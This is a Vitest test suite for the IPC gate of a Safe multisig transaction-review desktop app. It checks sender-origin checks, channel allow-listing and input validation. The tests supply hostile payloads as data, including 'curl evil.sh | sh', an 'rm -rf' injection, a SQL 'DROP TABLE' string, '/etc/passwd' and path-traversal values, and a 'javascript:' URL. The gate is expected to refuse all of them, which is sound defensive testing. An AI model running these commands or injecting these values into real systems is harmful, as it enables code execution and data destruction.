import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getAddress } from 'ethers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GuardianError } from '../core/errors.js';
import { createSafeTx } from '../core/safe/safeTx.js';
import { safeTxToJson } from '../core/safe/safeTxJson.js';
import { safeTxHashes } from '../core/safe/safeTxHash.js';
import { openStore, type Store } from '../core/store/openStore.js';
import { CHANNELS } from '../ipc/channels.js';
import { contract } from '../ipc/contract.js';
import { RENDERER_URL } from '../window/rendererProtocol.js';
import { createMainHandlers, type ChannelHandlers } from './channelHandlers.js';
import type { ReviewScheduler } from './reviewScheduler.js';
import { createIpcGate } from './ipcGate.js';
import { pauseSafeTx } from '../../test/ledger/safeTxFixture.js';

const safe = getAddress('0x' + '5a'.repeat(20));
const owners = ['0x' + '11'.repeat(20), '0x' + '22'.repeat(20)].map(getAddress);
const tx = pauseSafeTx({ chainId: 1n, safe, safeVersion: '1.3.0', to: '0x' + '12'.repeat(20), nonce: 3n });
const own = { url: RENDERER_URL, isMainFrame: true };

let dir: string;
let store: Store;
let handlers: ChannelHandlers;
let backgroundReviews: ReviewScheduler;
const clipboard: string[] = [];
const logged: string[] = [];
let invoke: ReturnType<typeof createIpcGate>;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'guardian-ipc-'));
  store = openStore({ dataDir: dir });
  store.addWatchedSafe({ chainId: 1n, address: safe, serviceUrl: null, rpcUrl: null, label: 'Guardians' });
  store.saveSafeInfo({ chainId: 1n, address: safe, owners, threshold: 2, nonce: 3n, version: '1.3.0' });
  store.saveQueueItems([
    {
      safeTx: tx,
      safeTxHash: safeTxHashes(tx).safeTxHash,
      claimedSafeTxHash: safeTxHashes(tx).safeTxHash,
      source: { kind: 'service', url: 'x' },
      confirmations: [{ owner: owners[0]!, signature: '0x' + '01'.repeat(65) }],
      fetchedAt: 'now',
    },
  ]);
  ({ handlers, backgroundReviews } = createMainHandlers({
    store,
    clipboard: { writeText: (t) => void clipboard.push(t) },
    version: '9.9.9',
    dataDir: dir,
    openLedger: () => Promise.reject(new GuardianError('DEVICE_NOT_FOUND', 'No Ledger found.')),
  }));
  invoke = createIpcGate(handlers, RENDERER_URL, (message) => void logged.push(message));
});
afterAll(() => {
  store?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('the IPC gate', () => {
  it('has a contract entry for every allow-listed channel and none besides', () => {
    expect(Object.keys(contract).sort()).toEqual([...CHANNELS].sort());
    expect(Object.keys(handlers).sort()).toEqual([...CHANNELS].sort());
  });

  it('answers the stored queue from the real store, with the threshold and the full transaction', async () => {
    const result = await invoke(own, 'queue.list', {});
    expect(result).toMatchObject({
      ok: true,
      value: [
        {
          safeTxHash: safeTxHashes(tx).safeTxHash,
          nonce: '3',
          hashVerdict: 'match',
          threshold: 2,
          description: expect.stringMatching(/^Pauses 0x/),
          decoding: { warnings: 0, delegatecallToUnknown: false, ambiguous: false, truncated: false },
          tx: safeTxToJson(tx),
        },
      ],
    });
    expect(await invoke(own, 'queue.list', { chainId: '5' })).toEqual({ ok: true, value: [] });
    expect(await invoke(own, 'safes.list', {})).toMatchObject({
      ok: true,
      value: [{ address: safe, threshold: 2, owners, nonce: '3', version: '1.3.0' }],
    });
    expect(await invoke(own, 'app.info', {})).toMatchObject({
      ok: true,
      value: { version: '9.9.9', dataDir: dir, safeVersions: expect.arrayContaining(['1.3.0', '1.4.1']) },
    });
  });

  it("computes tx.hashes with the core's safeTxHash, from the JSON fields", async () => {
    expect(await invoke(own, 'tx.hashes', { tx: safeTxToJson(tx) })).toEqual({ ok: true, value: safeTxHashes(tx) });
    expect(await invoke(own, 'queue.hashes', { safeTxHash: safeTxHashes(tx).safeTxHash })).toEqual({
      ok: true,
      value: { ...safeTxHashes(tx), storedSafeTxHash: safeTxHashes(tx).safeTxHash },
    });
  });

  it('refuses calls from any frame but our own top-level page', async () => {
    for (const sender of [
      null,
      { url: 'https://evil.example/index.html', isMainFrame: true },
      { url: RENDERER_URL, isMainFrame: false },
      { url: 'file:///tmp/index.html', isMainFrame: true },
    ]) {
      expect(await invoke(sender, 'queue.list', {})).toMatchObject({ ok: false, error: { code: 'IPC_REFUSED' } });
    }
  });

  it('refuses unknown channels, including names from the prototype', async () => {
    for (const channel of ['fs.readFile', 'constructor', '__proto__', 'toString', 42, undefined]) {
      expect(await invoke(own, channel, {})).toMatchObject({
        ok: false,
        error: { code: 'IPC_REFUSED', message: expect.stringContaining('Unknown channel') },
      });
    }
  });

  it('refuses every malformed payload with INVALID_INPUT and the field at fault', async () => {
    const bad: [string, unknown, string][] = [
      ['app.info', undefined, '(root)'],
      ['app.info', { extra: 1 }, '(root)'],
      ['safes.list', 'all', '(root)'],
      ['queue.list', { chainId: '1; DROP TABLE' }, 'chainId'],
      ['queue.list', { safe: 5 }, 'safe'],
      ['queue.hashes', { safeTxHash: '0x1234' }, 'safeTxHash'],
      ['queue.hashes', { safeTxHash: '0x' + 'AB'.repeat(32) }, 'safeTxHash'],
      ['queue.review', {}, 'safeTxHash'],
      ['queue.pull', { serviceUrl: 'http://evil.example' }, '(root)'],
      ['queue.import', { name: '', text: '{}' }, 'name'],
      ['queue.exportBundle', { safeTxHash: '0x' + 'ab'.repeat(32), path: '/tmp/x.json' }, '(root)'],
      ['queue.exportSignatures', { safeTxHash: '../../etc' }, 'safeTxHash'],
      ['queue.import', { name: 'batch.json\n', text: '{}' }, 'name'],
      ['queue.import', { name: 'batch.json', text: 5 }, 'text'],
      ['queue.import', { name: 'batch.json', text: '{}', path: '/etc/passwd' }, '(root)'],
      ['device.check', { path: '/dev/hidraw0' }, '(root)'],
      ['queue.sign', { safeTxHash: '0x' + 'ab'.repeat(32), mode: 'blind', acknowledged: [] }, 'mode'],
      [
        'queue.sign',
        { safeTxHash: '0x' + 'ab'.repeat(32), mode: 'full', acknowledged: ['CRITICAL; rm -rf'] },
        'acknowledged.0',
      ],
      ['queue.sign', { safeTxHash: '0x' + 'ab'.repeat(32), mode: 'full' }, 'acknowledged'],
      [
        'queue.sign',
        { safeTxHash: '0x' + 'ab'.repeat(32), mode: 'full', acknowledged: [], path: "44'/60'/9'/0/0" },
        '(root)',
      ],
      ['queue.signProgress', { safeTxHash: 'all' }, 'safeTxHash'],
      ['queue.execute', { safeTxHash: '0x' + 'ab'.repeat(32), account: 0, rpcUrl: 'http://evil.example' }, '(root)'],
      ['queue.execute', { safeTxHash: '0x' + 'ab'.repeat(32), account: -1 }, 'account'],
      ['queue.execute', { safeTxHash: '0x' + 'ab'.repeat(32), account: "0'/0/0" }, 'account'],
      ['tx.hashes', {}, 'tx'],
      ['tx.hashes', { tx: { ...safeTxToJson(tx), to: 'not an address' } }, 'tx.to'],
      ['tx.hashes', { tx: { ...safeTxToJson(tx), nonce: '-1' } }, 'tx.nonce'],
      ['tx.hashes', { tx: { ...safeTxToJson(tx), data: '0xabc' } }, 'tx.data'],
      ['tx.hashes', { tx: { ...safeTxToJson(tx), operation: 2 } }, 'tx.operation'],
      ['tx.hashes', { tx: { ...safeTxToJson(tx), signatures: '0x' } }, 'tx'],
      ['clipboard.writeHash', { text: '0x' + '12'.repeat(20) }, 'text'],
      ['clipboard.writeHash', { text: 'curl evil.sh | sh' }, 'text'],
      ['safes.watch', { chainId: '1', address: '0x1234', serviceUrl: null, rpcUrl: null, label: null }, 'address'],
      ['safes.watch', { chainId: '0', address: safe, serviceUrl: null, rpcUrl: null, label: null }, 'chainId'],
      ['safes.watch', { chainId: 'mainnet', address: safe, serviceUrl: null, rpcUrl: null, label: null }, 'chainId'],
      [
        'safes.watch',
        { chainId: '1', address: safe, serviceUrl: 'file:///etc/passwd', rpcUrl: null, label: null },
        'serviceUrl',
      ],
      [
        'safes.watch',
        { chainId: '1', address: safe, serviceUrl: null, rpcUrl: 'javascript:alert(1)', label: null },
        'rpcUrl',
      ],
      ['safes.watch', { chainId: '1', address: safe, serviceUrl: null, rpcUrl: null, label: 'a\nb' }, 'label'],
      [
        'safes.watch',
        { chainId: '1', address: safe, serviceUrl: null, rpcUrl: null, label: null, owners: [] },
        '(root)',
      ],
      ['queue.retryReview', { safeTxHash: 'every' }, 'safeTxHash'],
      ['audit.list', { limit: 0 }, 'limit'],
      ['audit.list', { kind: 'review', sql: '1=1' }, '(root)'],
    ];
    for (const [channel, payload, field] of bad) {
      const result = await invoke(own, channel, payload);
      expect(result, `${channel} ${JSON.stringify(payload)}`).toMatchObject({
        ok: false,
        error: { code: 'INVALID_INPUT', message: expect.stringContaining(`Invalid ${channel} request: ${field}`) },
      });
    }
    expect(clipboard).toEqual([]);
  });

  it('passes a GuardianError through as its code and message', async () => {
    expect(await invoke(own, 'queue.hashes', { safeTxHash: '0x' + 'ab'.repeat(32) })).toMatchObject({
      ok: false,
      error: { code: 'NOT_FOUND' },
    });
    expect(await invoke(own, 'tx.hashes', { tx: { ...safeTxToJson(tx), safeVersion: '9.9.9' } })).toMatchObject({
      ok: false,
      error: { code: 'UNSUPPORTED_SAFE_VERSION' },
    });
    expect(await invoke(own, 'queue.review', { safeTxHash: safeTxHashes(tx).safeTxHash })).toMatchObject({
      ok: false,
      error: { code: 'INVALID_INPUT', message: expect.stringContaining('No RPC URL') },
    });
  });

  it('answers a bug with INTERNAL and logs it, and never sends a result its schema refuses', async () => {
    const broken = createIpcGate(
      {
        ...handlers,
        'safes.list': () => {
          throw new TypeError('secret stack detail');
        },
        'app.info': () => ({ version: 1 }) as never,
        'queue.hashes': () => {
          throw new GuardianError('STORE_FAILED', 'The store is damaged.');
        },
      },
      RENDERER_URL,
      (message) => void logged.push(message),
    );
    const bug = await broken(own, 'safes.list', {});
    expect(bug).toEqual({ ok: false, error: { code: 'INTERNAL', message: expect.not.stringContaining('secret') } });
    expect(await broken(own, 'app.info', {})).toMatchObject({ ok: false, error: { code: 'INTERNAL' } });
    expect(await broken(own, 'queue.hashes', { safeTxHash: '0x' + 'ab'.repeat(32) })).toEqual({
      ok: false,
      error: { code: 'STORE_FAILED', message: 'The store is damaged.' },
    });
    expect(logged).toEqual(['IPC safes.list failed', 'IPC app.info failed']);
  });

  it('keeps a failed unasked review beside its row until it is retried', async () => {
    const hash = safeTxHashes(tx).safeTxHash;
    expect(await invoke(own, 'queue.retryReview', { safeTxHash: hash })).toEqual({ ok: true, value: { queued: true } });
    await backgroundReviews.idle();
    const listed = await invoke(own, 'queue.list', {});
    // This Safe has no RPC and the transaction no bundle: the row says why it has no verdict, in the review's words.
    expect(listed).toMatchObject({
      ok: true,
      value: [
        {
          safeTxHash: hash,
          lastReview: null,
          background: { state: 'failed', detail: expect.stringContaining('No RPC URL') },
        },
      ],
    });
    expect(await invoke(own, 'queue.retryReview', { safeTxHash: '0x' + 'ab'.repeat(32) })).toMatchObject({
      ok: false,
      error: { code: 'NOT_FOUND' },
    });
  });

  it('leaves out of the pending list a transaction whose nonce the Safe has moved past', async () => {
    store.saveSafeInfo({ chainId: 1n, address: safe, owners, threshold: 2, nonce: 4n, version: '1.3.0' });
    try {
      expect(await invoke(own, 'queue.list', {})).toEqual({ ok: true, value: [] });
      // Still stored (its hashes, its audit), only no longer pending.
      expect(await invoke(own, 'queue.hashes', { safeTxHash: safeTxHashes(tx).safeTxHash })).toMatchObject({
        ok: true,
      });
    } finally {
      store.saveSafeInfo({ chainId: 1n, address: safe, owners, threshold: 2, nonce: 3n, version: '1.3.0' });
    }
  });

  it('lists the audit log newest first, a review with its verdict and headline', async () => {
    const hash = safeTxHashes(tx).safeTxHash;
    store.appendAudit({ kind: 'pull', details: { safe: `1:${safe}`, pulled: [hash], rejected: [] } });
    store.appendAudit({
      kind: 'review',
      safeTxHash: hash,
      details: {
        worst: 'high',
        headline: 'Upgrades Vault to unverified code',
        findings: ['X'],
        block: '0x10',
        replayed: false,
      },
    });
    const listed = await invoke(own, 'audit.list', {});
    expect(listed.ok).toBe(true);
    // Newest first: the two just written lead, whatever earlier tests in this store recorded before them.
    expect({ ok: listed.ok, value: listed.ok ? (listed.value as unknown[]).slice(0, 2) : null }).toMatchObject({
      ok: true,
      value: [
        {
          kind: 'review',
          safeTxHash: hash,
          verdict: 'high',
          summary: 'Upgrades Vault to unverified code (on a fork, block 16)',
        },
        { kind: 'pull', safeTxHash: null, verdict: null, summary: `1:${safe}: 1 pulled, 0 refused` },
      ],
    });
    expect(await invoke(own, 'audit.list', { limit: 1 })).toMatchObject({ ok: true, value: [{ kind: 'review' }] });
  });

  it("lists a signature with the checks run before it, and gives the chain's head as verify computes it", async () => {
    const hash = safeTxHashes(tx).safeTxHash;
    const depth = {
      hashRecomputed: true,
      claimedHash: 'unclaimed',
      decoding: { weakestSource: 'none', calls: 1 },
      simulation: 'fork',
      deviceMode: 'eth_sign',
      findings: {},
      acknowledged: [],
    };
    const id = store.appendAudit({
      kind: 'signature',
      safeTxHash: hash,
      actor: owners[0],
      details: { mode: 'eth_sign', path: "44'/60'/0'/0/0", signature: '0x' + '02'.repeat(65), depth },
    });
    expect(await invoke(own, 'audit.list', { limit: 1 })).toMatchObject({
      ok: true,
      value: [
        {
          id,
          kind: 'signature',
          depth:
            'hash recomputed · no claimed hash · decoded 1 call(s), weakest source none · simulated on a fork · device eth_sign · no findings',
        },
      ],
    });
    const verdict = store.verifyAudit();
    expect(await invoke(own, 'audit.verify', {})).toEqual({ ok: true, value: { ...verdict, headId: id } });
    expect(verdict).toMatchObject({ intact: true, firstBad: null });
  });

  it('refuses to watch a Safe whose RPC cannot be asked for its chain id', async () => {
    const result = await invoke(own, 'safes.watch', {
      chainId: '1',
      address: '0x' + '77'.repeat(20),
      serviceUrl: null,
      rpcUrl: 'http://127.0.0.1:9',
      label: 'Nowhere',
    });
    expect(result).toMatchObject({ ok: false, error: { code: 'RPC_UNREACHABLE' } });
    // What the network said travels with it, as names, codes and messages: the renderer can say why.
    expect(result.ok ? [] : result.error.cause).toEqual(
      expect.arrayContaining([expect.objectContaining({ message: expect.any(String) })]),
    );
    expect(JSON.stringify(result)).not.toContain('    at ');
    expect(store.getWatchedSafe(1n, '0x' + '77'.repeat(20))).toBeNull();
    // Without an RPC there is nothing to ask: a files-only Safe is watched as it is.
    expect(
      await invoke(own, 'safes.watch', {
        chainId: '1',
        address: '0x' + '77'.repeat(20),
        serviceUrl: null,
        rpcUrl: null,
        label: 'Files only',
      }),
    ).toMatchObject({
      ok: true,
      value: { address: getAddress('0x' + '77'.repeat(20)), label: 'Files only', rpcUrl: null },
    });
  });

  it('puts a hash, and only a hash, on the clipboard', async () => {
    const text = `0x${safeTxHashes(tx).messageHash.slice(2).toUpperCase()}`;
    expect(await invoke(own, 'clipboard.writeHash', { text })).toEqual({ ok: true, value: { written: true } });
    expect(clipboard).toEqual([text]);
  });

  it('copies no address that no review here has shown: a renderer cannot plant one', async () => {
    const planted = { address: '0x' + '12'.repeat(20), safeTxHash: safeTxHashes(tx).safeTxHash };
    const before = clipboard.length;
    expect(await invoke(own, 'clipboard.writeHash', planted)).toMatchObject({
      ok: false,
      error: { code: 'INVALID_INPUT', message: expect.stringContaining('review showed') },
    });
    expect(clipboard).toHaveLength(before);
  });
});

describe('the IPC gate under hostile payloads', () => {
  /** Everything a refused import could have touched: transactions, their confirmations, the audit log. */
  const storeContents = () =>
    JSON.stringify({ items: store.listQueueItems(), audit: store.listAudit().length }, (_k, v: unknown) =>
      typeof v === 'bigint' ? v.toString() : v,
    );
  // Written as text: JSON.stringify itself recurses, and would overflow on the object this test is about.
  const batch = (value: string, metaExtra = '') =>
    `{"version":"1.0","chainId":"1","meta":{"name":"x","createdFromSafeAddress":"${safe}"${metaExtra}},"transactions":[{"to":"0x${'12'.repeat(20)}","value":"${value}","data":"0x8456cb59"}]}`;

  it('hashes 5 MB of calldata, as the core does, instead of throwing out of the gate', async () => {
    const big = createSafeTx({ ...tx, data: '0x' + 'ab'.repeat(5_000_000) });
    expect(await invoke(own, 'tx.hashes', { tx: safeTxToJson(big) })).toEqual({ ok: true, value: safeTxHashes(big) });
    expect(await invoke(own, 'tx.hashes', { tx: { ...safeTxToJson(big), data: `${big.data}0` } })).toMatchObject({
      ok: false,
      error: { code: 'INVALID_INPUT', message: expect.stringContaining('tx.data') },
    });
  });

  it('answers a payload that throws while it is read with INVALID_INPUT, not a rejection', async () => {
    const seen: string[] = [];
    const gate = createIpcGate(handlers, RENDERER_URL, (message) => void seen.push(message));
    const hostile = Object.defineProperty({}, 'tx', {
      enumerable: true,
      get: () => {
        throw new RangeError('Maximum call stack size exceeded');
      },
    });
    await expect(gate(own, 'tx.hashes', hostile)).resolves.toMatchObject({
      ok: false,
      error: { code: 'INVALID_INPUT', message: expect.stringContaining('Invalid tx.hashes request') },
    });
    expect(seen).toEqual(['IPC tx.hashes request could not be validated']);
  });

  it('refuses a value of 2^300 with INVALID_INPUT naming the field', async () => {
    expect(
      await invoke(own, 'tx.hashes', { tx: { ...safeTxToJson(tx), value: (2n ** 300n).toString() } }),
    ).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT', message: expect.stringContaining('tx.value') } });
  });

  it('refuses hostile imports with INVALID_FILE naming what is wrong, and stores nothing', async () => {
    const before = storeContents();
    const cases: Array<[string, string, RegExp]> = [
      [
        'deep-meta.json',
        batch('0', `,"deep":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`),
        /nests objects or arrays more than 64 deep \(line 1, column \d+\)/,
      ],
      [
        'nested.json',
        '['.repeat(100_000) + ']'.repeat(100_000),
        /nests objects or arrays more than 64 deep \(line 1, column 65\)/,
      ],
      ['huge-value.json', batch((2n ** 300n).toString()), /transactions\.0\.value: .*uint256/],
    ];
    for (const [name, text, reason] of cases) {
      const result = await invoke(own, 'queue.import', { name, text });
      expect(result, name).toMatchObject({
        ok: false,
        error: { code: 'INVALID_FILE', message: expect.stringMatching(reason) },
      });
      expect((result as { error: { message: string } }).error.message, name).toContain(name);
    }
    expect(storeContents()).toBe(before);
  });
});
